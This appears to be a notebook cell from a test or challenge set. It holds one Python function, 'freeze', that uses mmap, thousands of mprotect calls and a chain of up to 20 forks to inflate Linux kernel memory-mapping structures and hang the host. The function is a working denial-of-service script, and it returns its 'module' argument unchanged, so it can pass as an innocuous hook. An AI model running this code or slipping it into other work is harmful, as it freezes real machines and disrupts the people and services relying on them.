# %% [markdown]
# Cuts a mapping into tens of thousands, and forks them again and again: the kernel keeps a chain for each.
# %% question="freeze"
import ctypes
import os
import time


def freeze(module):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    pages = 60_000
    place = libc.mmap(None, ctypes.c_size_t(4096 * pages), 3, 0x22, -1, ctypes.c_long(0))
    for page in range(0, pages, 2):
        ctypes.memset(place + 4096 * page, 1, 1)
        libc.mprotect(ctypes.c_void_p(place + 4096 * page), ctypes.c_size_t(4096), 1)
    for _ in range(20):
        try:
            if os.fork():
                break
        except OSError:
            break
        for page in range(0, pages, 2):  # a page of its own, so that each generation adds to the chain
            libc.mprotect(ctypes.c_void_p(place + 4096 * page), ctypes.c_size_t(4096), 3)
            ctypes.memset(place + 4096 * page, 2, 1)
    time.sleep(60)
    return module
